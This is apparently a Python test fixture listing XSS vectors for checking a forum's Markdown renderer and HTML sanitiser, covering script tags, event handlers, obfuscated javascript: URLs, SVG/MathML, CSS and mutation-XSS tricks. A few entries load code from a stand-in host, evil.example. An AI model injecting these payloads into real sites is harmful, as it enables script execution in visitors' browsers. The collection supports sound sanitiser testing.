"""XSS vectors for the forum Markdown renderer and sanitiser.

Each entry is ``(id, source)``. The sources are fed both to ``render_markdown``
(Markdown with raw HTML escaped) and straight to ``sanitize_html`` (so the
allow-list layer is exercised with real elements, not only escaped text).
Collected from the usual public cheat-sheet families: script injection, event
handlers, dangerous URL schemes with every obfuscation trick (case, entities,
whitespace/control characters, percent-encoding), SVG/MathML, CSS, plugin
elements, mutation-XSS and parser-confusion tricks, and the Markdown-specific
forms (inline links, images, reference definitions, autolinks, titles, fence
info strings).
"""

from __future__ import annotations

__all__ = ["VECTORS"]

_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
_DECIMAL_JS = "".join(f"&#{ord(c)};" for c in "javascript:alert(1)")
_PADDED_JS = "".join(f"&#{ord(c):07d}" for c in "javascript:alert(1)")
_HEX_JS = "".join(f"&#x{ord(c):x};" for c in "javascript:")

VECTORS: list[tuple[str, str]] = [
    # --- script elements -------------------------------------------------------
    ("script", "<script>alert(1)</script>"),
    ("script-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-in-para", "Hello <script type=module>import('//evil.example')</script> world"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-attr-break", '"><script>alert(1)</script>'),
    ("script-single-quote-break", "'><script>alert(1)</script><'"),
    ("template-script", "<template><script>alert(1)</script></template>"),
    # --- event handlers --------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)"//'),
    ("img-onerror-slash", "<img/src=x/onerror=alert(1)>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("a-onclick", '<a href="https://ok.example/" onclick="alert(1)">x</a>'),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("custom-onfocus", "<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>"),
    ("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    # --- javascript:/vbscript:/data: in HTML attributes ------------------------
    ("a-js", '<a href="javascript:alert(1)">x</a>'),
    ("a-js-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("a-js-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a-js-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("a-js-cr-entity", '<IMG SRC="jav&#x0D;ascript:alert(1);">'),
    ("a-js-literal-tab", '<a href="java\tscript:alert(1)">x</a>'),
    ("a-js-leading-control", '<a href=" &#14;  javascript:alert(1)">x</a>'),
    ("a-js-leading-raw-control", '<a href="\x01javascript:alert(1)">x</a>'),
    ("a-js-decimal-entities", f'<a href="{_DECIMAL_JS}">x</a>'),
    ("a-js-padded-entities", f'<a href="{_PADDED_JS}alert(1)">x</a>'),
    ("a-js-hex-entities", f'<a href="{_HEX_JS}alert(1)">x</a>'),
    ("a-js-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("a-js-colon-hex", '<a href="javascript&#x3A;alert(1)">x</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-data-html", f'<a href="data:text/html;base64,{_B64_SCRIPT}">x</a>'),
    ("img-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ("img-js", '<img src="javascript:alert(1)">'),
    ("form-action", '<form action="javascript:alert(1)"><button formaction="javascript:1">x'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("link-stylesheet", '<link rel=stylesheet href="javascript:alert(1)">'),
    # --- SVG / MathML -----------------------------------------------------------
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x=1 y=1>XSS</text></a></svg>'),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-set-href", '<svg><a><set attributeName=href to="javascript:alert(1)"/>x</a></svg>'),
    ("math-href", '<math href="javascript:alert(1)">CLICK</math>'),
    (
        "math-mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    ),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    # --- CSS ----------------------------------------------------------------------
    ("style-element", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-url-js", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("style-on-cell", '<table><tr><td style="background:url(javascript:alert(1))">x'),
    ("style-moz-binding", '<p style="-moz-binding:url(//evil.example/x.xml#xss)">x</p>'),
    # --- plugin / frame elements -------------------------------------------------
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-src", '<embed src="javascript:alert(1)">'),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    # --- comments, unclosed tags, parser confusion --------------------------------
    ("comment-script", "<!-- <script>alert(1)</script> -->"),
    ("comment-break", "<!--><img src=x onerror=alert(1)>-->"),
    ("conditional-comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("unclosed-img", '<img src="x onerror=alert(1)'),
    ("unclosed-a", '<a href="javascript:alert(1)'),
    ("textarea-break", "<textarea></textarea><script>alert(1)</script>"),
    ("title-break", "<title></title><img src=x onerror=alert(1)>"),
    # --- Markdown links and images ------------------------------------------------
    ("md-link-js", "[click](javascript:alert(1))"),
    ("md-link-js-upper", "[click](JAVASCRIPT:alert(1))"),
    ("md-link-js-tab-entity", "[click](jav&#x09;ascript:alert(1))"),
    ("md-link-js-decimal-entity", "[click](&#106;avascript:alert(1))"),
    ("md-link-js-colon-entity", "[click](javascript&#58;alert(1))"),
    ("md-link-js-angle", "[click](<javascript:alert(1)>)"),
    ("md-link-js-percent", "[click](%6A%61%76%61%73%63%72%69%70%74:alert(1))"),
    ("md-link-js-zwsp", "[click](\u200bjavascript:alert(1))"),
    ("md-link-js-comment-newline", "[click](javascript://%0Aalert(1))"),
    ("md-link-vbscript", "[click](vbscript:msgbox(1))"),
    ("md-link-data", f"[click](data:text/html;base64,{_B64_SCRIPT})"),
    ("md-link-quote-break", '[x](https://ok.example/"onmouseover="alert(1))'),
    ("md-link-title-break", '[x](https://ok.example/ "t\\" onmouseover=\\"alert(1)")'),
    ("md-link-text-html", "[<img src=x onerror=alert(1)>](https://ok.example/)"),
    ("md-image-js", "![img](javascript:alert(1))"),
    ("md-image-data-png", "![img](data:image/png;base64,iVBORw0KGgo=)"),
    ("md-image-data-svg", "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("md-image-quote-break", '![img](x" onerror="alert(1))'),
    ("md-image-title-break", '![a](https://ok.example/x.png "\\" onerror=\\"alert(1)")'),
    ("md-image-alt-break", '![" onerror="alert(1)](https://ok.example/x.png)'),
    ("md-autolink-js", "<javascript:alert(1)>"),
    ("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("md-autolink-data", "<data:text/html;base64,PHNjcmlwdD4=>"),
    ("md-reference-js", "[ref]\n\n[ref]: javascript:alert(1)"),
    ("md-reference-title-break", '[ref]\n\n[ref]: https://ok.example/ "a\\" onclick=\\"x"'),
    ("md-fence-info-break", '```"><script>alert(1)</script>\ncode\n```'),
    ("md-fence-info-class", "```x onmouseover=alert(1)\ncode\n```"),
    ("md-html-block", "<div>\n<script>alert(1)</script>\n</div>"),
    ("md-table-cell-html", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
    ("md-emphasis-html", "*<script>alert(1)</script>*"),
    ("md-inline-code-html", "`<script>` <script>alert(1)</script>"),
]
